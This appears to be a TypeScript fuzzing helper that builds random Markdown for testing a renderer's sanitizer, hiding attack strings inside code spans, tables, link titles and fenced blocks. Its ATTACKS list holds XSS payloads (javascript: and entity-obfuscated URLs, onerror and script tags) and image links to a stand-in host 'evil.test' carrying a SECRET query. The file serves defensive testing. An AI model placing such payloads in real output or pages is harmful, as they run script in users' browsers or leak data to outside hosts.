/** Markdown of every kind, by chance, with what must not reach a page hidden in it. */

type Random = () => number

const ATTACKS = [
  '![a](https://evil.test/?q=SECRET)',
  '![](//evil.test/p)',
  '![a][r]',
  '![r]',
  '!',
  '![',
  '](https://evil.test/p)',
  '](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](data:text/html,hi)',
  '[x](&#0000000106;avascript:alert(1))',
  '[x](java&Tab;script:1)',
  '[x](vbscript&colon;1)',
  '[r]: javascript:alert(1)',
  '[r]: https://evil.test/p "t"',
  '[1]: https://evil.test/p',
  '[r]:\n  data:x,y',
  '<javascript:alert(1)>',
  '<img src="https://evil.test/?q=SECRET">',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<style>',
  '<div onclick="x">',
  '</div>',
  '<b>',
  '</b>',
  '<p>',
  '</p>',
  '<br>',
  '<br/>',
  '<ul>',
  '<li>',
  '</li>',
  '<h2 class="x">',
  '<span style="a">',
  '<p onclick="x">',
  '<a href="javascript:x">',
  '<!-- ',
  ' -->',
  '<![CDATA[',
  ']]>',
  '<?x ?>',
  '<!DOCTYPE html>',
  '<iframe src="data:x">',
  'javascript:alert(1)',
  'data:text/html,x',
  'ftp://evil.test/x',
  'xmpp:a@evil.test/x',
]
const PIECES = [
  'a',
  'word',
  ' ',
  ' ',
  '  ',
  '    ',
  '\t',
  '\n',
  '\n',
  '\n\n',
  '\r\n',
  '\r',
  '\0',
  '\u202e',
  '\u200b',
  '\u00a0',
  '\u2028',
  '\ufeff',
  '\f',
  '`',
  '`',
  '``',
  '```',
  '````',
  '~',
  '~~',
  '~~~',
  '\\',
  '\\`',
  '\\[',
  '\\]',
  '\\!',
  '\\<',
  '\\\\',
  '&',
  '&#96;',
  '&lt;',
  '&#33;',
  '&colon;',
  '&amp;',
  '*',
  '**',
  '_',
  '__',
  '|',
  '|',
  '\\|',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  '!',
  ':',
  '"',
  "'",
  '#',
  '# ',
  '- ',
  '* ',
  '+ ',
  '1. ',
  '2. ',
  '1) ',
  '> ',
  '>',
  '- [ ] ',
  '---',
  '===',
  '|---|---|\n',
  '-|-\n',
  ':-',
  '[^1]',
  '[^1]: ',
  '[1]',
  '[r]',
  '[r][',
  '](',
  ']:',
  '](<',
  '>)',
  'https://a.example',
  'https://a.example/',
  'http://x/(y)',
  'www.a.example',
  'a@b.example',
  '<https://a.example>',
  '<a@b.example>',
  '[x](https://ok.example/y)',
  '[x](/docs "title")',
  '![m](/v1/me/attachments/1.png)',
  '`code`',
  '``co`de``',
  '`<one>`',
  '`a|b`',
  '<br>',
  '<br/>',
  '$x$',
  '.',
  ',',
  '\uD83D\uDE00',
]
const INDENTS = [
  '',
  '',
  '',
  ' ',
  '  ',
  '   ',
  '    ',
  '     ',
  '      ',
  '\t',
  '> ',
  '>',
  '- ',
  '1. ',
  '  - ',
  '   1. ',
  '* ',
  '10. ',
  '> - ',
  '- > ',
  '[^1]: ',
]

const pick = <T>(random: Random, list: readonly T[]): T =>
  list[Math.floor(random() * list.length)] as T

function inline(random: Random, length: number): string {
  let text = ''
  for (let i = 0; i < length; i++)
    text += random() < 0.25 ? pick(random, ATTACKS) : pick(random, PIECES)
  return text
}

/** A frame around an attack: what hides it well when a renderer reads the frame otherwise. */
function framed(random: Random): string {
  const ticks = '`'.repeat(1 + Math.floor(random() * 3))
  const attack = random() < 0.8 ? pick(random, ATTACKS) : inline(random, 3)
  const pad = pick(random, ['', ' ', inline(random, 1)])
  switch (Math.floor(random() * 9)) {
    case 0:
    case 1:
    case 2:
      return `${inline(random, 2)}${ticks}${pad}${attack}${pad}${ticks}`
    case 3:
      return `[${attack}](${pick(random, ['https://ok.example', 'javascript:1', '/x "t', inline(random, 2)])})`
    case 4:
      return `| ${inline(random, 1)} | ${ticks}${attack}${ticks} |\n|---|---|\n| ${attack} | ${ticks}${attack}${pad}${ticks} |\n`
    case 5:
      return `${pick(random, ['*', '**', '~', '~~', '_', '['])}${pick(random, PIECES)}${ticks}${pick(random, ['*', '**', '~', '~~', '_', ']'])}${pad}${attack}${ticks}`
    case 6:
      return `[x](${inline(random, 2)} "${pad}${attack}")`
    case 7: {
      const quote = pick(random, ['"', "'", '(', inline(random, 1)])
      const gap = () => pick(random, [' ', '\n', '\n\n', '', '\t', ' > '])
      return `${pick(random, ['[r', '[^', inline(random, 2)])}]:${gap()}${pick(random, ['/x', '<y>', inline(random, 2)])}${gap()}${quote}${gap()}\n${ticks}\`\`\n${attack}\n\`\`\`${gap()}${quote === '(' ? ')' : quote}`
    }
    default:
      return `<${inline(random, 2)}>${attack}`
  }
}

function fenced(random: Random): string {
  const lead = pick(random, INDENTS)
  const mark = pick(random, ['```', '```', '~~~', '````', '``````'])
  const inner = () =>
    `${pick(random, [...INDENTS, lead.replace(/[^>]/g, ' ')])}${pick(random, [pick(random, ATTACKS), mark, '```', '~~~', `${mark}~`, `${mark} `, inline(random, 2), ''])}`
  const before =
    random() < 0.5
      ? `${pick(random, INDENTS)}${pick(random, ['text', inline(random, 2), pick(random, ATTACKS)])}\n${pick(random, ['', '', '\n'])}`
      : ''
  const lines = Array.from({ length: 1 + Math.floor(random() * 4) }, inner)
  const end =
    random() < 0.6 ? `${pick(random, [lead.replace(/[^>]/g, ' '), ...INDENTS])}${mark}` : ''
  return `${before}${lead}${mark}${pick(random, ['', 'js', ' md', inline(random, 1)])}\n${lines.join('\n')}\n${end}\n`
}

/** One reply. The same seed gives the same replies. */
export function randomMarkdown(random: Random): string {
  let text = ''
  for (let blocks = 1 + Math.floor(random() * 4); blocks > 0; blocks--) {
    const kind = random()
    if (kind < 0.25) text += fenced(random)
    else if (kind < 0.65)
      text += `${pick(random, INDENTS)}${framed(random)}${pick(random, ['', '\n', '\n\n', ' '])}`
    else
      text += `${pick(random, INDENTS)}${inline(random, 1 + Math.floor(random() * 8))}${pick(random, ['', '\n', '\n\n', ' '])}`
  }
  return text
}
